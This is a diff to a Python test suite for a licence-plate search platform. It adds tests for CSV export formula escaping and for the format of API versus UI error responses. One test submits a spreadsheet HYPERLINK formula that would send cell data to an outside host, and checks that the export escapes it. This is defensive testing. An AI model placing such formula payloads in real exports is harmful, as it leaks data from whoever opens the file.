@@ -4,6 +4,8 @@ from the same services as the API."""
 
 from __future__ import annotations
 
+import csv
+import io
 import re
 from collections.abc import Iterator
 
@@ -12,7 +14,7 @@ import pyotp
 import pytest
 from fastapi.testclient import TestClient
 
-from plateledger.api.app import create_app
+from plateledger.app import create_app
 from plateledger.cameras.quarantine import Held
 from plateledger.core.clock import FixedClock
 from plateledger.platform import Platform
@@ -225,6 +227,22 @@ def test_search_export_is_audited_after_its_search(client: TestClient, platform:
     assert actions(platform, mark) == ["search.plate", "search.exported"]
 
 
+def test_search_export_escapes_formulas_and_keeps_numbers(
+    client: TestClient, platform: Platform, network: WebNetwork
+) -> None:
+    sign_in(client, network.user(network.palm, "investigator"))
+    page = client.get("/ui/search")
+    case = '=HYPERLINK("https://example.com/?"&A1,"open")'
+    values = {"csrf": csrf_of(page.text), "mode": "plate", "plate": PLATE, "purpose": "stolen_vehicle"}
+    response = client.post("/ui/search/export.csv", data={**values, "case_number": case, "since": "", "until": ""})
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert rows
+    assert {row["case_number"] for row in rows} == {"'" + case}
+    assert all(float(row["lon"]) < 0 for row in rows if row["lon"])  # a negative longitude stays a number
+    assert all(not row[column].startswith("'") for row in rows for column in ("lat", "lon", "confidence"))
+
+
 def test_hot_list_import_shows_the_per_line_report(client: TestClient, platform: Platform, network: WebNetwork) -> None:
     sign_in(client, network.user(network.palm, "investigator"))
     page = client.get("/ui/hotlists")
@@ -269,6 +287,25 @@ def test_policy_preview_does_not_save_and_save_adds_a_version(
     saved = client.post("/ui/admin/policy", data={"csrf": csrf_of(page.text), "action": "save", "policy": draft})
     assert saved.status_code == 303
     assert platform.policies.current("harbor-pd").policy.plate_lookback_days == 30
+
+
+def test_one_app_answers_api_errors_as_problems_and_ui_errors_as_pages(client: TestClient, network: WebNetwork) -> None:
+    """app.py makes the one choice by path: the same library error (PermissionDenied here, AuthenticationFailed
+    too) is problem+json for the API and the UI's error page under /ui/."""
+    sign_in(client, network.user(network.palm, "investigator"))
+    page = client.get("/ui/admin/sharing")
+    assert page.status_code == 403
+    assert page.headers["content-type"].startswith("text/html")
+    assert '<p class="error" role="alert">' in page.text
+    api = client.get("/api/v1/audit")  # the session cookie is no bearer token
+    assert api.status_code == 401
+    assert api.headers["content-type"] == "application/problem+json"
+    assert api.headers["www-authenticate"] == "Bearer"
+    assert api.json()["type"].endswith("/authentication-failed")
+    assert api.json()["instance"] == "/api/v1/audit"
+    missing = client.get("/api/v1/no-such-route")
+    assert missing.status_code == 404
+    assert missing.headers["content-type"] == "application/problem+json"
 
 
 def test_roles_see_only_their_pages(client: TestClient, platform: Platform, network: WebNetwork) -> None:
